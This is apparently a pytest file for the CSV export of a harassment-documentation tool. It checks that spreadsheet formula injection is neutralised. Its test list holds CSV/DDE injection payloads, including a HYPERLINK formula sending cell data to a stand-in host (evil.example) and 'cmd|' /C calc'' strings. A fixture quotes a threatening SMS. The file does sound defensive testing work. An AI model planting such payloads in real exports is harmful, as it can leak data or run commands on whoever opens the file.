"""The CSV export opens safely in a spreadsheet: no cell starts a formula, whatever a
harasser wrote, and everything else is RFC 4180."""

from __future__ import annotations

import csv
import io

import pytest
from dossiers import RAID, build

from antirelou.export import render
from antirelou.export.csv_format import FORMULA_STARTS, neutralise
from antirelou.export.labels import MESSAGE_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "+33 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    'ordinary, with a comma and "quotes"\r\nand a line break',
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=1+1", "'=1+1"), ("+33612345678", "'+33612345678"), ("-2", "'-2"), ("@x", "'@x"),
     ("\t1", "'\t1"), ("\r1", "'\r1"), ("salut =1", "salut =1"), ("", ""), ("'=1", "'=1")],
)  # fmt: skip
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_no_cell_starts_a_formula_whatever_was_sent():
    _, dossier = build([("+33622222222", text) for text in HOSTILE] + RAID)
    data = render(dossier, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read accents right
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == [column.title for column in MESSAGE_COLUMNS]
    assert len(rows) == 1 + len(HOSTILE) + len(RAID)
    for row in rows:
        assert len(row) == len(MESSAGE_COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    text_column = [column.key for column in MESSAGE_COLUMNS].index("text")
    for row, sent in zip(rows[1:], HOSTILE, strict=False):
        # The text is all there, after one quote when it could have run.
        assert row[text_column] in (sent, "'" + sent)
    senders = {row[[c.key for c in MESSAGE_COLUMNS].index("sender_e164")] for row in rows[1:]}
    assert "'+33622222222" in senders


def test_every_column_is_filled_from_the_dossier():
    _, dossier = build(RAID[2:3])
    rows = list(csv.reader(io.StringIO(render(dossier, "csv").decode("utf-8-sig"))))
    cells = dict(zip([column.key for column in MESSAGE_COLUMNS], rows[1], strict=True))
    assert cells["received_local"] == "2017-10-30 15:07:00 +01:00"
    assert cells["received_utc"] == "2017-10-30 14:07:00 UTC"
    assert cells["smsc_time"] == "2017-10-30T15:06:56+01:00"
    assert cells["text"] == "Je sais où tu habites. 🔪"
    assert cells["flags"].startswith("weapon (antirelou): arme")
    assert cells["pdus"] == dossier.messages[0].pdus[0].hex
    assert cells["reply_status"] == "sent"
